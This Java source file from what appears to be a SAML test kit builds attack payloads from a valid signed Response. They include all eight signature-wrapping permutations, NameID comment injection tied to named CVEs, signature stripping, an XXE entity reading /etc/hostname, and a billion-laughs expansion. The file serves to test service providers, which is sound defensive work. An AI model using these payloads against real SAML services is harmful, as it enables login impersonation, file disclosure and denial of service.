package io.usher.testkit.saml;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Objects;
import java.util.concurrent.atomic.AtomicLong;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * The classic attacks on a SAML Response, made from a valid one that {@link SamlIdp} issued. Each takes and gives
 * the Response XML (use {@link #base64(String)} for the POSTed form). A correct service provider refuses every
 * one, except {@link #injectComment}, which it must read as the whole signed NameID (never the part before the
 * comment). Thread-safe (stateless).
 *
 * <p>The eight signature-wrapping (XSW) permutations follow Somorovsky et al., "On Breaking SAML: Be Whoever You
 * Want to Be" (USENIX Security 2012) as SAML Raider implements them: XSW1 and XSW2 need a Response whose
 * <em>Response</em> is signed, XSW3 to XSW8 one whose <em>Assertion</em> is signed. Each keeps the signed original
 * somewhere the signature still verifies, and puts an evil Assertion (NameID changed, fresh ID so that no
 * duplicate ID gives it away) where a careless SP reads its data.
 */
public final class SamlAttacks {
    private static final AtomicLong EVIL_IDS = new AtomicLong();

    private SamlAttacks() {
    }

    /** The eight XSW permutations. */
    public enum Xsw {
        /** Evil Response at the root; the original signed Response inside the (moved) Signature. */
        XSW1(true),
        /** Evil Response at the root; the original signed Response beside the Signature (detached). */
        XSW2(true),
        /** An evil Assertion before the signed one, both children of the Response. */
        XSW3(false),
        /** An evil Assertion in place of the signed one, which becomes its child. */
        XSW4(false),
        /** The signed Assertion edited in place (signature kept); an untouched copy appended to the Response. */
        XSW5(false),
        /** As XSW5, with the untouched copy inside the edited Assertion's Signature. */
        XSW6(false),
        /** The signed Assertion moved into a samlp:Extensions element; an evil Assertion in its place. */
        XSW7(false),
        /** As XSW6, with the untouched copy inside a ds:Object of the Signature. */
        XSW8(false);

        private final boolean needsSignedResponse;

        Xsw(boolean needsSignedResponse) {
            this.needsSignedResponse = needsSignedResponse;
        }

        /** Whether the victim must have a signed Response (XSW1, XSW2) rather than a signed Assertion. */
        public boolean needsSignedResponse() {
            return needsSignedResponse;
        }
    }

    /** The value a browser POSTs for this XML. */
    public static String base64(String xml) {
        return Base64.getEncoder().encodeToString(xml.getBytes(StandardCharsets.UTF_8));
    }

    /** Applies one XSW permutation to a signed Response, making {@code evilNameId} the NameID a careless SP reads. */
    public static String wrap(Xsw variant, String signedXml, String evilNameId) {
        Objects.requireNonNull(variant, "variant");
        Objects.requireNonNull(evilNameId, "evilNameId");
        Document doc = SamlXml.parse(signedXml);
        Element response = doc.getDocumentElement();
        Element assertion = SamlXml.firstChild(response, SamlXml.SAML_NS, "Assertion");
        if (assertion == null) {
            throw new IllegalArgumentException("the Response has no (plain) Assertion to wrap");
        }
        Element responseSignature = SamlXml.firstChild(response, SamlXml.DSIG_NS, "Signature");
        Element assertionSignature = SamlXml.firstChild(assertion, SamlXml.DSIG_NS, "Signature");
        if (variant.needsSignedResponse && responseSignature == null) {
            throw new IllegalArgumentException(variant + " needs a Response with a signed Response");
        }
        if (!variant.needsSignedResponse && assertionSignature == null) {
            throw new IllegalArgumentException(variant + " needs a Response with a signed Assertion");
        }
        switch (variant) {
            case XSW1, XSW2 -> {
                Element evilResponse = (Element) response.cloneNode(true);
                evilResponse.setAttributeNS(null, "ID", evilId());
                removeChild(evilResponse, SamlXml.DSIG_NS, "Signature");
                Element evilAssertion = SamlXml.firstChild(evilResponse, SamlXml.SAML_NS, "Assertion");
                makeEvil(evilAssertion, evilNameId);
                response.removeChild(responseSignature);
                Node anchor = afterIssuer(evilResponse);
                if (variant == Xsw.XSW1) {
                    responseSignature.appendChild(response);
                    evilResponse.insertBefore(responseSignature, anchor);
                } else {
                    evilResponse.insertBefore(responseSignature, anchor);
                    evilResponse.insertBefore(response, responseSignature);
                }
                doc.appendChild(evilResponse);
            }
            case XSW3 -> {
                Element evil = evilCopy(assertion, evilNameId);
                response.insertBefore(evil, assertion);
            }
            case XSW4 -> {
                Element evil = evilCopy(assertion, evilNameId);
                response.replaceChild(evil, assertion);
                evil.appendChild(assertion);
            }
            case XSW5, XSW6, XSW8 -> {
                Element original = (Element) assertion.cloneNode(true);
                removeChild(original, SamlXml.DSIG_NS, "Signature");
                setNameId(assertion, evilNameId);
                assertion.setAttributeNS(null, "ID", evilId());
                if (variant == Xsw.XSW5) {
                    response.appendChild(original);
                } else if (variant == Xsw.XSW6) {
                    assertionSignature.appendChild(original);
                } else {
                    Element object = doc.createElementNS(SamlXml.DSIG_NS, "ds:Object");
                    object.appendChild(original);
                    assertionSignature.appendChild(object);
                }
            }
            case XSW7 -> {
                Element evil = evilCopy(assertion, evilNameId);
                Element extensions = doc.createElementNS(SamlXml.SAMLP_NS, "samlp:Extensions");
                response.replaceChild(evil, assertion);
                extensions.appendChild(assertion);
                response.insertBefore(extensions, afterIssuer(response));
            }
            default -> throw new IllegalArgumentException("unknown variant");
        }
        return SamlXml.serialize(doc.getDocumentElement());
    }

    /**
     * Splits the NameID's text with an XML comment after {@code prefixLength} characters: the signature still
     * verifies (exclusive canonicalization drops comments), and an SP that reads only the first text node sees
     * the prefix (CVE-2017-11427, CVE-2017-11428, CVE-2018-0489 ...).
     */
    public static String injectComment(String xml, int prefixLength) {
        Document doc = SamlXml.parse(xml);
        Element nameId = nameId(doc);
        String value = nameId.getTextContent();
        if (prefixLength <= 0 || prefixLength >= value.length()) {
            throw new IllegalArgumentException("the prefix must be inside the NameID value");
        }
        while (nameId.getFirstChild() != null) {
            nameId.removeChild(nameId.getFirstChild());
        }
        nameId.appendChild(doc.createTextNode(value.substring(0, prefixLength)));
        nameId.appendChild(doc.createComment(""));
        nameId.appendChild(doc.createTextNode(value.substring(prefixLength)));
        return SamlXml.serialize(doc.getDocumentElement());
    }

    /** Changes the NameID after signing (the signature no longer matches). */
    public static String replaceNameId(String xml, String value) {
        Document doc = SamlXml.parse(xml);
        nameId(doc).setTextContent(value);
        return SamlXml.serialize(doc.getDocumentElement());
    }

    /** Removes every Signature (a signed Response made unsigned). */
    public static String removeSignatures(String xml) {
        Document doc = SamlXml.parse(xml);
        var list = doc.getElementsByTagNameNS(SamlXml.DSIG_NS, "Signature");
        while (list.getLength() > 0) {
            Node n = list.item(0);
            n.getParentNode().removeChild(n);
        }
        return SamlXml.serialize(doc.getDocumentElement());
    }

    /**
     * Puts a DOCTYPE with an external entity (XXE) in front of the Response and the entity reference in the
     * NameID: an SP that resolves it would read {@code file:///etc/hostname} into the login.
     */
    public static String xxe(String xml) {
        String body = stripDeclaration(xml);
        String nameId = nameId(SamlXml.parse(xml)).getTextContent();
        return "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]>\n"
                + body.replace(">" + nameId + "<", ">&xxe;<");
    }

    /** A DOCTYPE that expands one entity into a billion (entity-expansion denial of service). */
    public static String billionLaughs(String xml) {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE r [<!ENTITY l0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY l").append(i).append(" \"");
            dtd.append(("&l" + (i - 1) + ";").repeat(10));
            dtd.append("\">");
        }
        dtd.append("]>\n");
        String body = stripDeclaration(xml);
        String nameId = nameId(SamlXml.parse(xml)).getTextContent();
        return dtd + body.replace(">" + nameId + "<", ">&l9;<");
    }

    // ---- helpers ----------------------------------------------------------------------------------------------

    private static String stripDeclaration(String xml) {
        String s = xml.strip();
        if (s.startsWith("<?xml")) {
            s = s.substring(s.indexOf("?>") + 2).strip();
        }
        return s;
    }

    private static String evilId() {
        return "_evil" + EVIL_IDS.incrementAndGet();
    }

    private static Element evilCopy(Element assertion, String evilNameId) {
        Element evil = (Element) assertion.cloneNode(true);
        makeEvil(evil, evilNameId);
        return evil;
    }

    private static void makeEvil(Element assertion, String evilNameId) {
        assertion.setAttributeNS(null, "ID", evilId());
        removeChild(assertion, SamlXml.DSIG_NS, "Signature");
        setNameId(assertion, evilNameId);
    }

    private static void setNameId(Element assertion, String value) {
        Element subject = SamlXml.firstChild(assertion, SamlXml.SAML_NS, "Subject");
        Element nameId = subject == null ? null : SamlXml.firstChild(subject, SamlXml.SAML_NS, "NameID");
        if (nameId == null) {
            throw new IllegalArgumentException("the Assertion has no Subject NameID");
        }
        nameId.setTextContent(value);
    }

    private static Element nameId(Document doc) {
        var list = doc.getElementsByTagNameNS(SamlXml.SAML_NS, "NameID");
        if (list.getLength() == 0) {
            throw new IllegalArgumentException("the Response has no NameID (encrypted?)");
        }
        return (Element) list.item(0);
    }

    private static void removeChild(Element parent, String ns, String local) {
        Element child = SamlXml.firstChild(parent, ns, local);
        if (child != null) {
            parent.removeChild(child);
        }
    }

    private static Node afterIssuer(Element response) {
        Element issuer = SamlXml.firstChild(response, SamlXml.SAML_NS, "Issuer");
        return issuer == null ? response.getFirstChild() : issuer.getNextSibling();
    }
}
